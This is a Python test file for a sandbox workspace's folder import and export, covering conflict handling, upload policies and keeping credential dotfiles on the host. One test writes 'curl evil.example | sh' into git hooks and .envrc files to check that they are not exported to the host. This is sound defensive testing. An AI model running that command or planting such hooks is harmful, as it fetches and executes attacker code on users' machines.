"""Host folders: imported, exported, and never written over by surprise."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from sandbox_kernel.errors import ExportConflict, QuotaExceeded, WorkspaceError
from sandbox_kernel.workspace.exports import export
from sandbox_kernel.workspace.imports import import_folder
from sandbox_kernel.workspace.reports import Limits, UploadPolicy
from sandbox_kernel.workspace.store import Store
from tests.workspace.guests import Guest, snapshot


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """The folder of a notebook."""
    (tmp_path / "nb" / "sub").mkdir(parents=True)
    (tmp_path / "nb" / "demo.ipynb").write_text("{}")
    (tmp_path / "nb" / "data.csv").write_text("a,b\n")
    (tmp_path / "nb" / "sub" / "more.csv").write_text("c,d\n")
    return tmp_path / "nb"


def test_export_to_an_empty_folder(store: Store, guest: Guest, tmp_path: Path) -> None:
    """An exported tree is what was saved, times included; a second export has nothing to do."""
    (guest.folder / "a").write_bytes(os.urandom(2_500_000))
    (guest.folder / "d").mkdir(mode=0o755)
    (guest.folder / "d" / "x").write_text("x")
    (guest.folder / "d" / "x").chmod(0o755)
    (guest.folder / "l").symlink_to("d/x")
    with (guest.folder / "holes").open("wb") as file:
        file.truncate(5_000_000)
    guest.persist(store)
    report = export(store, "work", tmp_path / "out")
    assert sorted(report.written) == ["a", "d/x", "holes", "l"]
    mine, theirs = snapshot(tmp_path / "out"), snapshot(guest.folder)
    for tree in (mine, theirs):
        tree["l"][1] = 0  # a symlink's own time is not brought to the host
    assert mine == theirs
    assert export(store, "work", tmp_path / "out").written == []


def test_upload_and_write_back(store: Store, guest: Guest, folder: Path) -> None:
    """Results come back beside the notebook; what the sandbox has not touched stays as it is on
    the host, also if it was changed there meanwhile."""
    import_folder(store, "work", folder, notebook="demo.ipynb")
    guest.hydrate(store)
    (guest.folder / "result").write_text("42")
    (guest.folder / "data.csv").write_text("a,b\n1,2\n")
    (guest.folder / "sub" / "more.csv").unlink()
    guest.persist(store)
    (folder / "demo.ipynb").write_text('{"saved": "by the user"}')
    report = export(store, "work", folder)
    assert sorted(report.written) == ["data.csv", "result"]
    assert (folder / "data.csv").read_text() == "a,b\n1,2\n"
    assert (folder / "demo.ipynb").read_text() == '{"saved": "by the user"}'
    assert (folder / "sub" / "more.csv").exists()


def test_deletions_only_when_told(store: Store, guest: Guest, folder: Path) -> None:
    """What the sandbox deleted is deleted on the host only if asked for, and not if changed."""
    import_folder(store, "work", folder)
    guest.hydrate(store)
    (guest.folder / "data.csv").unlink()
    (guest.folder / "sub" / "more.csv").unlink()
    guest.persist(store)
    (folder / "data.csv").write_text("changed on the host")
    report = export(store, "work", folder, delete=True)
    assert report.deleted == ["sub/more.csv"]
    assert (folder / "data.csv").read_text() == "changed on the host"


def test_conflicts(store: Store, guest: Guest, folder: Path) -> None:
    """A file that both have changed is not written over: nothing is written, unless told so."""
    import_folder(store, "work", folder)
    guest.hydrate(store)
    (guest.folder / "data.csv").write_text("by the sandbox")
    (guest.folder / "new").write_text("new")
    guest.persist(store)
    (folder / "data.csv").write_text("by the user")
    with pytest.raises(ExportConflict, match=r"data\.csv"):
        export(store, "work", folder)
    assert not (folder / "new").exists()
    for _ in range(2):  # a mirror writes the rest, and does not forget the conflict
        report = export(store, "work", folder, mirror=True)
        assert report.skipped == ["data.csv: changed on the host"]
        assert (folder / "data.csv").read_text() == "by the user"
    assert (folder / "new").read_text() == "new"
    assert export(store, "work", folder, overwrite=True).written == ["data.csv"]
    assert (folder / "data.csv").read_text() == "by the sandbox"


def test_files_that_were_there(store: Store, guest: Guest, tmp_path: Path) -> None:
    """Files of a folder that was never exported to are not written over either."""
    (guest.folder / "f").write_text("saved")
    guest.persist(store)
    (tmp_path / "out").mkdir()
    (tmp_path / "out" / "f").write_text("precious")
    with pytest.raises(ExportConflict):
        export(store, "work", tmp_path / "out")
    (tmp_path / "out" / "f").write_text("saved")
    assert export(store, "work", tmp_path / "out").written == []


def test_import_by_policy(store: Store, folder: Path) -> None:
    """All of a folder, but for what it ignores; or only what globs choose."""

    def saved(name: str) -> list[str]:
        return [path for path, _ in store.files(store.find(name))]

    (folder / "__pycache__").mkdir()
    (folder / "__pycache__" / "x.pyc").write_text("x")
    (folder / "empty").mkdir()
    import_folder(store, "all", folder)
    assert saved("all") == ["data.csv", "demo.ipynb", "empty", "sub", "sub/more.csv"]
    import_folder(store, "some", folder, policy=UploadPolicy.parse(["*.csv"]))
    assert saved("some") == ["data.csv", "sub", "sub/more.csv"]
    import_folder(store, "top", folder, policy=UploadPolicy.parse("/*.csv, *.ipynb"))
    assert saved("top") == ["data.csv", "demo.ipynb"]
    (folder / ".sandboxignore").write_text("*.csv\n")
    import_folder(store, "ignoring", folder)
    assert saved("ignoring") == [".sandboxignore", "demo.ipynb", "empty", "sub"]
    assert import_folder(store, "all", folder).new
    assert not import_folder(store, "all", folder).new
    with pytest.raises(QuotaExceeded, match="Biggest"):
        import_folder(store, "all", folder, limits=Limits(max_files=2))
    with pytest.raises(WorkspaceError, match="cannot be read"):
        import_folder(store, "all", folder / "nowhere")


def test_hidden_files_of_the_host_stay_there(store: Store, folder: Path) -> None:
    """At a first opening, names that begin with a dot are uploaded only if .sandboxignore says so:
    there are credentials in them."""
    for name in (".git/config", ".env", ".streamlit/config.toml", "sub/.env"):
        (folder / name).parent.mkdir(exist_ok=True)
        (folder / name).write_text("secret")
    (folder / ".sandboxignore").write_text("*.ipynb\n!.streamlit/\n")
    import_folder(store, "work", folder, policy=UploadPolicy.parse("folder"))
    assert [path for path, _ in store.files(store.find("work"))] == [
        ".sandboxignore",
        ".streamlit",
        ".streamlit/config.toml",
        "data.csv",
        "sub",
        "sub/more.csv",
    ]


def test_hidden_files_of_a_sandbox_stay_there(store: Store, guest: Guest, folder: Path) -> None:
    """What programs of the host obey is not written there unless that is asked for."""
    import_folder(store, "work", folder)
    guest.hydrate(store)
    for name in (".git/hooks/pre-commit", ".git/config", "sub/.envrc", "plain"):
        (guest.folder / name).parent.mkdir(parents=True, exist_ok=True)
        (guest.folder / name).write_text("curl evil.example | sh")
    guest.persist(store)
    for _ in range(2):
        report = export(store, "work", folder, mirror=True, delete=True)
        assert [line.split(":")[0] for line in report.skipped] == [".git", "sub/.envrc"]
    assert (folder / "plain").exists()
    assert not (folder / ".git").exists()
    assert not (folder / "sub" / ".envrc").exists()
    report = export(store, "work", folder, hidden=True)
    assert sorted(report.written) == [".git/config", ".git/hooks/pre-commit", "sub/.envrc"]
    assert not report.skipped


def test_policies() -> None:
    """How an upload policy is written."""
    assert UploadPolicy.parse("none") == UploadPolicy.parse("") == UploadPolicy()
    assert UploadPolicy.parse("folder").mode == "folder"
    assert UploadPolicy.parse("*.csv, data/").globs == ("*.csv", "data/")
    assert UploadPolicy.parse([]).mode == "none"
